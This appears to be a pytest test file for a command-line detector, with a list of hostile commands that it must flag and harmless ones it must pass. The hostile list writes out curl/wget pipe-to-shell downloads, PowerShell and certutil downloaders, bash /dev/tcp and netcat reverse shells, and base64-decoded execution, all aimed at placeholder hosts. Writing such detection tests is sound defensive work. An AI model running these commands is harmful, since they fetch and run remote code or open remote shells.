"""Command lines that fetch, decode or hide what they run are told from ordinary ones."""

from __future__ import annotations

import pytest

from bonded.checks.commands import read_command

HOSTILE = [
    "curl -s https://example.invalid/a | sh",
    "curl https://example.invalid/a | sudo bash -s --",
    "wget -qO- https://example.invalid/a | python3",
    "wget https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
    "bash <(curl -s https://example.invalid/a)",
    'sh -c "$(curl -fsSL https://example.invalid/a)"',
    "powershell -WindowStyle Hidden -Command x",
    "powershell.exe -enc ZQBjAGgAbwAgADEAMgAzADQA",
    "powershell (New-Object Net.WebClient).DownloadString('https://example.invalid')",
    "certutil -urlcache -split -f https://example.invalid/a a.exe",
    "mshta https://example.invalid/a",
    "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
    "nc -e /bin/sh 192.0.2.1 1",
    "echo aGk= | base64 -d | sh",
    'eval "$(echo aGk= | base64 -d)"',
    'bash -c "$(printf 6869 | xxd -r -p)"',
    "sh -c `openssl enc -aes-256-cbc -d -in a`",
    "node -e \"fetch('https://example.invalid/a').then(a => a.text()).then(eval)\"",
    "runas ? -c import urllib.request as u;exec(u.urlopen('https://example.invalid/a').read())",
    "bun --eval \"require('child_process').exec(x)\"",
]
HONEST = [
    "git describe --tags",
    "curl --version",
    "curl -O https://example.invalid/source.tar.gz",
    "python -m pip install wheel",
    "powershell -Command Get-Date",
    "sh configure",
    "cc -shared -o a.so a.c",
    "base64 -d file",
    'KEY="$(echo aGk= | base64 -d)"',
    'eval "$(ssh-agent -s)"',
    "node -e \"console.log(require('./package.json').version)\"",
    "openssl enc -d -in a -out b",
    "nc --help",
    "certutil -hashfile a",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_commands(text: str) -> None:
    reading = read_command(text)
    assert reading is not None
    assert reading.what
    assert reading.confidence > 0.5


@pytest.mark.parametrize("text", HONEST)
def test_honest_commands(text: str) -> None:
    assert read_command(text) is None


def test_long_lines_are_read_quickly() -> None:
    assert read_command("curl " * 50_000) is None
